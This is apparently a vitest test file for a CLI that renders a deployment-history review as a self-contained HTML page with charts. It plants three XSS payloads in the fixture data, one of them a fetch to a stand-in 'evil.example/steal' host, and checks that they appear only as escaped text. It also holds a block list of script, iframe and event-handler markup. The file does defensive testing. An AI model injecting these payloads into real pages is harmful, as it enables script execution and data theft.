import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { type DefaultTreeAdapterMap, parse } from 'parse5';
import { describe, expect, it, vi } from 'vitest';
import type { HistoryEvent } from '../../lambdas/core/history/events';
import { REVIEW_CSP } from '../../lambdas/core/review/render-html';
import { badQuarter, deployment } from '../core/review/fixtures';
import { runCliInProcess } from '../support/cli-in-process';

/*
 * `preflight review --format html`: one self-contained page, parsed here as a browser would
 * (parse5, the WHATWG algorithm). No script, no event handler, nothing fetched from anywhere, and
 * every name from the history shown as text, however hostile; the charts carry the series the
 * history gives.
 */

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

function elements(node: Node): Element[] {
  const children = 'childNodes' in node ? node.childNodes : [];
  const content = node.nodeName === 'template' ? [(node as DefaultTreeAdapterMap['template']).content] : [];
  const own = 'tagName' in node ? [node as Element] : [];
  return [...own, ...[...children, ...content].flatMap((child) => elements(child as Node))];
}

function texts(node: Node): string[] {
  if (node.nodeName === '#text') return [(node as DefaultTreeAdapterMap['textNode']).value];
  const children = 'childNodes' in node ? node.childNodes : [];
  return children.flatMap((child) => texts(child as Node));
}

const attr = (el: Element, name: string) => el.attrs.find((a) => a.name === name)?.value;

const HOSTILE_SERVICE = '</svg><script>alert(1)</script>';
const HOSTILE_ITEM = '"><img src=x onerror=alert(2)>';
const HOSTILE_TRIGGER = 'x\' onmouseover=\'fetch("https://evil.example/steal")';

function watchWithReadings(id: string, decision: 'PROCEED' | 'ROLLBACK', value: number): HistoryEvent {
  return {
    kind: 'watch-decided',
    id: `${id}#readings`,
    at: '2026-10-20T10:35:00.000Z',
    service: 'orders',
    environment: 'prod',
    deploymentId: id,
    runId: id,
    decision,
    outcomes: {
      [HOSTILE_TRIGGER]: {
        status: decision === 'ROLLBACK' ? 'BREACH' : 'PASS',
        reason: '',
        threshold: 0.05,
        comparison: '>',
        window: { breaching: 3, of: 3 },
        critical: false,
        shadow: false,
        readings: [value, value, value, value],
      },
    },
  };
}

/** October 2026: the fixture quarter, one service with a hostile name, and a recorded trigger. */
function hostileQuarter(): HistoryEvent[] {
  return [
    ...badQuarter(),
    ...deployment({
      id: 'h1',
      day: 20,
      decision: 'PROCEED',
      service: HOSTILE_SERVICE,
      warnItems: [HOSTILE_ITEM],
    }),
    watchWithReadings('w1', 'ROLLBACK', 0.2),
    watchWithReadings('w2', 'PROCEED', 0.04),
  ];
}

async function reviewHtml(events: readonly HistoryEvent[]) {
  const dir = mkdtempSync(path.join(tmpdir(), 'preflight-review-html-'));
  const file = path.join(dir, 'events.json');
  writeFileSync(file, JSON.stringify(events));
  // Reviewed after the quarter ended: every week of it charted.
  vi.useFakeTimers({ toFake: ['Date'] });
  vi.setSystemTime(new Date('2027-01-04T09:00:00Z'));
  const run = await runCliInProcess([
    'review',
    '--quarter',
    '2026Q4',
    '--events',
    file,
    '--format',
    'html',
  ]).finally(() => vi.useRealTimers());
  return { html: run.stdout, document: parse(run.stdout) };
}

function series(document: Node, name: string) {
  return elements(document)
    .filter((el) => attr(el, 'data-series') === name && el.tagName !== 'polyline')
    .map((el) => ({ x: attr(el, 'data-x'), value: attr(el, 'data-value') }));
}

describe('preflight review --format html', () => {
  it('prints one HTML document that runs nothing and loads nothing, even with hostile names in the history', async () => {
    const { html, document } = await reviewHtml(hostileQuarter());

    expect(html).toMatch(/^<!DOCTYPE html>/);
    const all = elements(document);
    const tags = new Set(all.map((el) => el.tagName));
    for (const tag of [
      'script',
      'iframe',
      'img',
      'image',
      'object',
      'embed',
      'link',
      'base',
      'form',
      'foreignObject',
      'a',
      'use',
    ])
      expect(tags.has(tag), tag).toBe(false);
    for (const el of all) {
      for (const a of el.attrs) {
        expect(a.name.startsWith('on'), `${el.tagName} ${a.name}`).toBe(false);
        expect(['href', 'src', 'xlink:href', 'action', 'formaction']).not.toContain(a.name);
        // The SVG namespace is a name, not a fetch; nothing else may name a URL.
        if (a.name !== 'xmlns')
          expect(a.value, `${el.tagName} ${a.name}`).not.toMatch(/(https?:|\/\/|javascript:|data:)/i);
      }
    }
    const style = all
      .filter((el) => el.tagName === 'style')
      .flatMap(texts)
      .join('');
    expect(style).not.toMatch(/url\(|@import/);
    const csp = all.find((el) => attr(el, 'http-equiv') === 'Content-Security-Policy');
    expect(attr(csp as Element, 'content')).toBe(REVIEW_CSP);
    // The hostile names are shown, as text.
    const shown = texts(document).join('\n');
    expect(shown).toContain(`${HOSTILE_SERVICE} prod`);
    expect(shown).toContain(HOSTILE_ITEM);
    expect(shown).toContain(HOSTILE_TRIGGER);
  });

  it('charts deployments and change failure rate per week, items by failure rate, and each trigger sweep', async () => {
    const { document } = await reviewHtml(badQuarter());

    // October 2026 from the 1st, in 7-day weeks: d1-d4 (d3 rolled back), d5-d8 (d6 rolled back), d9-d10.
    const deployments = series(document, 'deployments');
    expect(deployments).toHaveLength(14);
    expect(deployments.slice(0, 4)).toEqual([
      { x: '10-01', value: '4' },
      { x: '10-08', value: '4' },
      { x: '10-15', value: '2' },
      { x: '10-22', value: '0' },
    ]);
    expect(series(document, 'change-failure-rate').slice(0, 3)).toEqual([
      { x: '10-01', value: '0.25' },
      { x: '10-08', value: '0.25' },
      { x: '10-15', value: '0' },
    ]);
    // Weeks without deployments have no rate: no point, the line breaks.
    expect(series(document, 'change-failure-rate')).toHaveLength(3);
    const items = series(document, 'item-failure-rate');
    expect(items.map((i) => i.x)).toContain('infrastructure.database-backups');
    expect(items.every((i) => Number(i.value) >= 0 && Number(i.value) <= 1)).toBe(true);
  });

  it('draws a trigger sweep as two curves over the threshold multiples', async () => {
    const { document } = await reviewHtml(hostileQuarter());

    const caught = series(document, 'caught-bad');
    const falseAlarms = series(document, 'false-alarms');
    expect(caught.map((p) => p.x)).toEqual(['0.5x', '0.75x', '1x', '1.25x', '1.5x', '2x']);
    // The rolled-back watch read 0.2 against 0.05: caught at every multiple; the healthy one read
    // 0.04: a false alarm only once the threshold is tightened below 0.04 (0.5x and 0.75x).
    expect(caught.map((p) => p.value)).toEqual(['1', '1', '1', '1', '1', '1']);
    expect(falseAlarms.map((p) => p.value)).toEqual(['1', '1', '0', '0', '0', '0']);
    const lines = elements(document).filter((el) => el.tagName === 'polyline');
    expect(lines.map((l) => attr(l, 'data-series'))).toEqual(
      expect.arrayContaining(['change-failure-rate', 'caught-bad', 'false-alarms']),
    );
  });
});
